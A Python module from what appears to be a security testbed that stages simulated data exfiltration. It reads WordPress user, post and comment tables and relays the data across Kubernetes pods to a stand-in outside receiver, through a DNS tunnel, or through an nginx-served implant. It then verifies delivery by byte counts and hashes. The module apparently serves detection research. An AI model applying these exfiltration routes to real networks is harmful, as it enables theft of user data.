"""Physical exfiltration in the testbed: one window's chain of relay processes, started and checked.

A window's path names services; one pod of each runs a relay (mimir.sources.testbed.relay). Per hop a → b the
data goes from a to b, and who connects follows the threat model as in the synthetic source: where b calls a in
the application's own traffic, b pulls (the data rides in responses); otherwise a pushes. The exits: `outside`
pushes to the world's receiver through the node's SNAT, `kube-dns, outside` tunnels through cluster DNS to the
world's resolver, `ingress` serves the implant behind a WordPress pod's nginx to a client in the world that pulls
through the NodePort. The processes start from the sink back to the source, so each finds its peer listening or
retries until it does; the result compares what the source sent with what reached the sink.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import secrets
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from mimir.errors import TestbedError
from mimir.network import ATTACKER_CLIENT, DNS_SERVICE, EXFIL_DESTINATION, INGRESS, OUTSIDE
from mimir.sources.testbed.network import NODE_PORT, OUTSIDE_GATEWAY, Network, Pod
from mimir.sources.testbed.processes import Daemon
from mimir.sources.testbed.relay import EXFIL_PORT
from mimir.sources.testbed.services import IMPLANT, RELAY_PORT
from mimir.sources.testbed.testbed import DATABASE, REDIS, WORDPRESS
from mimir.spec import BURST_SECONDS, BURSTS, ExfilWindow

CALLS = frozenset(  # caller → callee in WordPress's benign traffic: a hop against a call is pulled
    {(WORDPRESS, DATABASE), (WORDPRESS, REDIS), (WORDPRESS, DNS_SERVICE), (INGRESS, WORDPRESS), (DATABASE, DATABASE)}
)
TABLES = ("wp_users", "wp_posts", "wp_comments")  # what the source reads: accounts, content, commenters
PATIENCE = 30.0  # seconds a hop retries connecting to its peer (the peers start within a second or two)
DRAIN = 5.0  # seconds the hops after the source get to pass on its last bytes


@dataclass
class HopProcess:
    """One relay process of a window: where it runs, what errors call it, and where it writes its summary."""

    label: str
    daemon: Daemon
    summary: Path


@dataclass
class ExfilRun:
    """One window under way: its relay processes, source first and sink last."""

    window: ExfilWindow
    index: int
    tag: str  # the window's name in the world's log (tunnel names, the receiver's first line)
    exit: str  # outside, tunnel or ingress
    pods: list[str]  # per service on the path, "" for kube-dns
    hops: list[HopProcess]
    world_log: Path
    started: float


def _pick(net: Network, services: list[str], rng: random.Random, index: int) -> list[Pod]:
    """One pod per service, at random, another pod than the previous hop's where the service has several."""
    chosen: list[Pod] = []
    for service in services:
        pods = sorted((p for p in list(net.pods.values()) if p.service == service), key=lambda p: p.name)
        if not pods:
            raise TestbedError(f"exfiltration window {index}: no pod of service {service!r} is up")
        others = [p for p in pods if not chosen or p.name != chosen[-1].name] or pods
        chosen.append(rng.choice(others))
    return chosen


def _port(index: int, hop: int) -> int:
    """The port of a hop's listener: distinct per window and hop, so windows may overlap on a pod."""
    return RELAY_PORT + 1 + (index * 10 + hop) % 800


Options = list[list[str]]  # per pod, a relay's command-line options


def _plan(index: int, tag: str, pods: list[Pod], exit_: str) -> tuple[Options, Options]:
    """The input and output options of each pod's relay (the source's input is filled in by the caller)."""
    services = [p.service for p in pods]
    inputs: Options = [[] for _ in pods]
    outputs: Options = [[] for _ in pods]
    for i in range(len(pods) - 1):
        a, b, port = pods[i], pods[i + 1], _port(index, i)
        if (services[i + 1], services[i]) in CALLS:  # b calls a: b's relay pulls
            outputs[i], inputs[i + 1] = ["--serve", f"{a.ip}:{port}"], ["--pull", f"http://{a.ip}:{port}/"]
        else:
            outputs[i], inputs[i + 1] = ["--push", f"{b.ip}:{port}"], ["--accept", f"{b.ip}:{port}"]
    if exit_ == "tunnel":
        outputs[-1] = ["--tunnel", tag]
    elif exit_ == INGRESS:
        if services[-1] != WORDPRESS:
            raise TestbedError(f"exfiltration window {index}: only WordPress pods serve the implant, not "
                               f"{services[-1]} pods")  # fmt: skip
        outputs[-1] = ["--serve", f"127.0.0.1:{RELAY_PORT}"]  # where the pod's nginx sends IMPLANT
    else:
        outputs[-1] = ["--push", f"{EXFIL_DESTINATION}:{EXFIL_PORT}", "--announce", tag]
    return inputs, outputs


def start_window(net: Network, work: Path, window: ExfilWindow, index: int, db_socket_for: Callable[[Pod], Path],
                 seed: int) -> ExfilRun:  # fmt: skip
    """Start a window's relays, from the sink back to the source, and return at once.

    The source reads the database through the socket `db_socket_for` gives for a member: the path's first pod
    when it is one, else any member (a compromised pod with the database's credentials)."""
    path = list(window.path)
    services = path[:-1]
    exit_ = path[-1]
    if exit_ == OUTSIDE and len(services) >= 2 and services[-1] == DNS_SERVICE:
        services, exit_ = services[:-1], "tunnel"
    rng = random.Random(f"exfil:{seed}:{index}")  # noqa: S311 (reproducible choices, not secrets)
    pods = _pick(net, services, rng, index)
    members = [pods[0]] if pods[0].service == DATABASE else _pick(net, [DATABASE], rng, index)
    tag = f"{index}-{secrets.token_hex(3)}"  # unique in the world's log even across runs of one testbed
    inputs, outputs = _plan(index, tag, pods, exit_)
    total = round(window.bytes_per_minute * window.duration / 60)
    inputs[0] = ["--source", str(db_socket_for(members[0])), *(f"--table={t}" for t in TABLES), f"--bytes={total}",
                 f"--duration={window.duration}", f"--shape={window.shape}", f"--bursts={BURSTS}",
                 f"--burst-seconds={BURST_SECONDS}", f"--seed={rng.randrange(2**31)}"]  # fmt: skip
    folder = work / "exfil" / tag
    folder.mkdir(parents=True, exist_ok=True)
    commands = [
        (f"exfiltration window {index}, hop {i} ({pod.service} pod {pod.name})", pod.netns, inputs[i] + outputs[i])
        for i, pod in enumerate(pods)
    ]
    if exit_ == INGRESS:
        url = f"http://{OUTSIDE_GATEWAY}:{NODE_PORT}{IMPLANT}"
        client = f"exfiltration window {index}, client at the front door"
        commands.append((client, net.outside, ["--pull", url, "--bind", ATTACKER_CLIENT, "--sink"]))
    hops = []
    try:
        for i in reversed(range(len(commands))):
            label, netns, options = commands[i]
            summary = folder / f"hop{i}.json"
            argv = [sys.executable, "-m", "mimir.sources.testbed.relay", "--name", label, "--summary", str(summary),
                    f"--patience={PATIENCE:g}", *options]  # fmt: skip
            daemon = Daemon(f"exfil-{tag}-{i}", netns, argv, work / "logs" / f"exfil-{tag}-{i}.log")
            hops.insert(0, HopProcess(label, daemon.start(), summary))
    except TestbedError:
        for hop in hops:
            hop.daemon.stop()
        raise
    names = [p.name for p in pods] + ([""] if exit_ == "tunnel" else [])
    return ExfilRun(window, index, tag, exit_, names, hops, work / "world.jsonl", time.time())


def finish_window(run: ExfilRun, timeout: float) -> dict[str, Any]:
    """Wait up to `timeout` for the source to finish and the others to pass its bytes on, stop every relay (always),
    and return the window's run.json entry: what the source sent and what reached the sink, with any problem."""
    problems: list[str] = []
    deadline = time.monotonic() + timeout
    try:
        source = run.hops[0]
        _wait(source.daemon, deadline)
        if source.daemon.alive():
            problems.append(f"{source.label}: still sending after {timeout:g} s")
        else:
            deadline = max(deadline, time.monotonic() + DRAIN)
            for hop in run.hops[1:]:
                _wait(hop.daemon, deadline)
    finally:
        for hop in run.hops:  # a relay stopped early says so in its summary
            hop.daemon.stop()
    summaries = [_summary(hop, problems) for hop in run.hops]
    sent = summaries[0]
    received = _received(run, summaries[-1], problems)
    if received["bytes"] != sent.get("bytes_out", 0) or received["sha256"] != sent.get("sha256_out", ""):
        problems.append(f"exfiltration window {run.index}: {sent.get('bytes_out', 0)} bytes sent, "
                        f"{received['bytes']} received, and their SHA-256 differ")  # fmt: skip
    return {
        "start": sent.get("first_out") or run.started,
        "end": sent.get("last_out") or run.started,
        "path": list(run.window.path),
        "pods": run.pods,
        "bytes": sent.get("bytes_out", 0),
        "bytes_received": received["bytes"],
        "sha256_sent": sent.get("sha256_out", ""),
        "sha256_received": received["sha256"],
        "bytes_per_minute": run.window.bytes_per_minute,
        "shape": run.window.shape,
        "problems": problems,
    }


def _wait(daemon: Daemon, deadline: float) -> None:
    while daemon.alive() and time.monotonic() < deadline:
        time.sleep(0.1)


def _summary(hop: HopProcess, problems: list[str]) -> dict[str, Any]:
    """A relay's summary; its errors (already naming the hop) become problems, as does a missing summary."""
    try:
        summary = json.loads(hop.summary.read_text())
    except (OSError, json.JSONDecodeError):
        code = hop.daemon.proc.returncode if hop.daemon.proc else None
        problems.append(f"{hop.label}: no summary (exit {code}: {hop.daemon.tail()})")
        return {}
    problems.extend(summary["errors"])
    return summary


def _received(run: ExfilRun, last: dict[str, Any], problems: list[str]) -> dict[str, Any]:
    """Bytes and SHA-256 of what reached the sink: the client's summary, or the world's log for the window."""
    if run.exit == INGRESS:
        return {"bytes": last.get("bytes_in", 0), "sha256": last.get("sha256_in", "")}
    records = _world_records(run.world_log, run.tag, problems)
    if run.exit == "tunnel":
        parts = {r["seq"]: base64.b64decode(r["data"]) for r in records if r["kind"] == "tunnel"}
        queries = last.get("queries", 0)
        missing = [k for k in range(max(queries, len(parts))) if k not in parts]
        if missing:
            problems.append(f"exfiltration window {run.index}: {len(missing)} of {queries} tunnel queries never "
                            f"reached the world's resolver (the first: {missing[0]})")  # fmt: skip
        data = b"".join(parts[k] for k in sorted(parts))
        return {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    conns = [r for r in records if r["kind"] == "tcp"]
    if len(conns) != 1:
        problems.append(f"exfiltration window {run.index}: {len(conns)} connections reached the world's receiver, "
                        "not 1")  # fmt: skip
    if not conns:
        return {"bytes": 0, "sha256": ""}
    return {"bytes": sum(c["bytes"] for c in conns), "sha256": conns[0]["sha256"] if len(conns) == 1 else ""}


def _world_records(log: Path, tag: str, problems: list[str]) -> list[dict[str, Any]]:
    """The world's lines about one window."""
    try:
        lines = log.read_text().splitlines()
    except OSError as e:
        problems.append(f"{log}: the world's log cannot be read: {e.strerror}")
        return []
    records = []
    for line in lines:
        try:
            record = json.loads(line)
        except json.JSONDecodeError:
            continue  # a line cut short by a killed world
        if record.get("window") == tag:
            records.append(record)
    return records
